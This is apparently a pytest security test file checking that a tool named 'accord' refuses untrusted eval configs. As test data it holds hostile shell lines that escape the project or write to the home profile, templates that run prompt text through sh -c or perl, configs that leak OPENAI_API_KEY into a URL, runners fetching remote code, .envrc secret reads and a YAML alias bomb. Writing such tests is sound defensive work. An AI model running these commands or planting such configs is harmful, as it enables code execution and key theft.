"""Files from others, round 5: the doors of trust, programs, keys, paths and budgets tried as
the author of one file would try them, each through `accord` in a process of its own in a
fresh project (the trust record is the test's own: XDG_DATA_HOME, tests/conftest.py).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.helpers import ATTACK, Recorder, accord, pwned, refused, write


def agentv_cli(root: Path, template: str, text: str = "hi") -> Path:
    """An AgentV project (no config.yml) whose `cli` target runs `template`."""
    return write(
        root,
        {
            ".agentv/targets.yaml": "targets:\n  - name: default\n    provider: cli\n"
            f"    command_template: {json.dumps(template)}\n",
            "evals/ds.yaml": "execution:\n  target: default\n"
            "  evaluators: [{name: c, type: contains, value: x}]\n"
            f"tests:\n  - id: t\n    criteria: x\n    input: {json.dumps(text)}\n",
        },
    )


# --- the programs door: a shell line the checker read otherwise than the shell --------------


@pytest.fixture
def sink() -> Iterator[tuple[str, list[str]]]:
    """The logging server: its URL, and each request's path and Authorization."""
    server = Recorder()
    yield f"{server.url}/v1", server.requests
    server.close()


@pytest.mark.parametrize(
    "template",
    [
        # `cd` with an option: the checker took `-P` for the folder, the shell went to /usr/bin
        "cd -P /usr/bin && ./perl -e 'open(F, \">{home}/pwned_perl\")'; echo x > {{OUTPUT_FILE}}",
        "cd -- /usr/bin && ./touch {home}/pwned_cd; echo x > {{OUTPUT_FILE}}",
        # `~` is the home folder to the shell, a folder named `~` to the checker
        "echo 'touch pwned' >> ~/pwned_profile; echo x > {{OUTPUT_FILE}}",
        "~root/../usr/bin/touch {home}/pwned_tilde; echo x > {{OUTPUT_FILE}}",
    ],
)
def test_shell_line_leaving_the_project_is_refused(tmp_path: Path, template: str) -> None:
    """An untrusted `cli` command line ran a program of the system (perl with code, touch)
    or wrote into the home folder: the door read `cd -P /usr/bin` as `cd` into a folder of
    the project named `-P`, and `~/x` as a file under the project."""
    home = tmp_path / "home"
    home.mkdir()
    root = agentv_cli(tmp_path / "proj", template.format(home=home))
    run = accord(root, "eval", "evals/ds.yaml", env={"HOME": str(home)})
    refused(run, "targets.yaml:", "accord trust")
    assert pwned(home, root) == []


@pytest.mark.parametrize(
    "template",
    [
        'find . -maxdepth 0 -exec sh -c "echo {PROMPT} > {OUTPUT_FILE}" \\;',
        'flock lock sh -c "echo {PROMPT} > {OUTPUT_FILE}"',
        'script -qc "echo {PROMPT} > {OUTPUT_FILE}" /dev/null',
        "echo {PROMPT} | perl",
    ],
)
def test_prompt_in_a_script_a_shell_runs_later_in_the_line(tmp_path: Path, template: str) -> None:
    """Rule 1 holds in a trusted file too: the test's text never becomes a script another
    shell runs. Only `sh -c` as the command's program (or after env, nice, ...) was seen;
    `find -exec sh -c "... {PROMPT} ..."` ran the text as code."""
    root = agentv_cli(tmp_path, template, ATTACK)
    assert accord(root, "trust", ".agentv/targets.yaml").returncode == 0
    run = accord(root, "eval", "evals/ds.yaml")
    refused(run, "targets.yaml:4", "$AGENTV_PROMPT")
    assert pwned(root) == []


def test_cd_into_a_folder_of_the_project_still_runs(tmp_path: Path) -> None:
    root = agentv_cli(tmp_path, "cd sub && ./run.sh > {OUTPUT_FILE}")
    (root / "evals" / "sub").mkdir()
    script = root / "evals" / "sub" / "run.sh"
    script.write_text("#!/bin/sh\necho x\n")
    script.chmod(0o755)
    run = accord(root, "eval", "evals/ds.yaml")
    assert run.returncode == 0, run.stdout + run.stderr


# --- the keys door: a key from the environment carried in another shape ----------------------

KEY = "sk-round5-user-key-0123456789"


@pytest.mark.parametrize(
    "config",
    [
        "{apiBaseUrl: 'URL', apiKey: 'x{{ env.OPENAI_API_KEY }}'}",
        "{apiBaseUrl: 'URL', apiKey: '{{ env.OPENAI_API_KEY | upper }}'}",
        "{apiBaseUrl: 'URL', apiKey: '{{ env.OPENAI_API_KEY[1:] }}'}",
        "{apiBaseUrl: 'URL?k={{ env.OPENAI_API_KEY }}', apiKey: written-here}",
        "{apiBaseUrl: 'http://{{ env.OPENAI_API_KEY }}@HOST/v1', apiKey: written-here}",
    ],
)
def test_agentv4_provider_key_made_from_the_environment(
    tmp_path: Path, sink: tuple[str, list[str]], config: str
) -> None:
    """An AgentV 4 file renders `{{ env.… }}` anywhere: an apiKey made from the user's key
    (`x` + key, upper-cased, sliced) or a URL holding it (query, user info) went to the
    file's endpoint untrusted; only `apiKey: '{{ env.OPENAI_API_KEY }}'` was recognised."""
    url, seen = sink
    host = url.removeprefix("http://").removesuffix("/v1")
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "a.eval.yaml": "providers:\n  - id: openai:chat:gpt-4o-mini\n"
            f"    config: {config.replace('URL', url).replace('HOST', host)}\n"
            "prompts: [hi]\ntests:\n  - {id: t, assert: [{type: contains, value: hello}]}\n",
        },
    )
    run = accord(root, "eval", "a.eval.yaml", env={"OPENAI_API_KEY": KEY})
    refused(run, "a.eval.yaml:3", "accord trust a.eval.yaml")
    assert seen == []
    assert KEY not in run.stdout + run.stderr


def test_agentv4_provider_key_written_in_the_file_still_goes(
    tmp_path: Path, sink: tuple[str, list[str]]
) -> None:
    url, seen = sink
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "a.eval.yaml": "providers:\n  - id: openai:chat:gpt-4o-mini\n"
            f"    config: {{apiBaseUrl: '{url}', apiKey: written-here}}\n"
            "prompts: [hi]\ntests:\n  - {id: t, assert: [{type: contains, value: hello}]}\n",
        },
    )
    run = accord(root, "eval", "a.eval.yaml", env={"OPENAI_API_KEY": KEY})
    assert run.returncode == 0, run.stdout + run.stderr
    assert seen == ["/v1/chat/completions Bearer written-here"]


# --- the programs door: a known runner given something other than a script of the project ---


@pytest.mark.parametrize(
    "command",
    [
        "uv run https://127.0.0.1:9/x.py",  # uv runs a script from a URL
        "deno run -A https://127.0.0.1:9/x.ts",
        "deno run -A npm:cowsay",  # a package of the registry
        "bun x cowsay",  # bunx: a package of the registry
        "bun exec 'touch pwned'",  # bun's own shell runs the string
        "npx tsx https://127.0.0.1:9/x.ts",
    ],
)
def test_runner_given_no_script_of_the_project(tmp_path: Path, command: str) -> None:
    """A runner's word after its options was taken for a script of the project whatever it
    was: a URL, a package specifier, a subcommand of the runner (`bun x`, `bun exec`)."""
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "promptfooconfig.yaml": "prompts: ['hi']\n"
            f"providers: [{json.dumps('exec: ' + command)}]\n"
            "tests: [{assert: [{type: contains, value: hi}]}]\n",
        },
    )
    run = accord(root, "validate", "promptfooconfig.yaml")
    refused(run, "promptfooconfig.yaml:2", "accord trust promptfooconfig.yaml")


# --- files that are never data -----------------------------------------------------------------


@pytest.mark.parametrize("var", ["file://.envrc", "file://.e*"])
def test_direnv_file_is_never_data(tmp_path: Path, var: str) -> None:
    """`.envrc` (direnv's `export KEY=...`) was read as a var, by name or by a glob, and its
    secret sent to the provider and written to the results."""
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            ".envrc": "export TOKEN=envrc-secret-value-99\n",
            "promptfooconfig.yaml": "prompts: ['{{q}}']\nproviders: [echo]\n"
            f"tests: [{{vars: {{q: '{var}'}}, assert: [{{type: contains, value: x}}]}}]\n",
        },
    )
    run = accord(root, "eval", "-c", "promptfooconfig.yaml", "-o", "out.json")
    assert "envrc-secret" not in run.stdout + run.stderr
    out = root / "out.json"
    assert not out.exists() or "envrc-secret" not in out.read_text()
    assert "Traceback" not in run.stderr


def test_vars_given_as_a_file_is_no_internal_error(tmp_path: Path) -> None:
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "v.yaml": "q: hi\n",
            "promptfooconfig.yaml": "prompts: ['{{q}}']\nproviders: [echo]\n"
            "tests: [{vars: file://v.yaml, assert: [{type: contains, value: hi}]}]\n",
        },
    )
    run = accord(root, "eval", "-c", "promptfooconfig.yaml")
    assert run.returncode in (0, 2), run.stderr
    assert "internal error" not in run.stderr


# --- budgets -------------------------------------------------------------------------------------


def test_aliases_in_a_promptfoo_test_file_count_against_the_budget(tmp_path: Path) -> None:
    levels = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    for previous, name in zip("abcde", "bcdef", strict=True):
        levels.append(f"{name}: &{name} [{', '.join([f'*{previous}'] * 10)}]")
    root = write(
        tmp_path,
        {
            "config.yml": "defaults: {}\n",
            "promptfooconfig.yaml": "prompts: ['{{q}}']\nproviders: [echo]\ntests: file://t.yaml\n",
            "t.yaml": f"- vars: {{q: hi, z: {{{', '.join(levels)}}}}}\n"
            "  assert: [{type: contains, value: hi}]\n",
        },
    )
    run = accord(root, "validate", "promptfooconfig.yaml")
    refused(run, "t.yaml", "100,000")
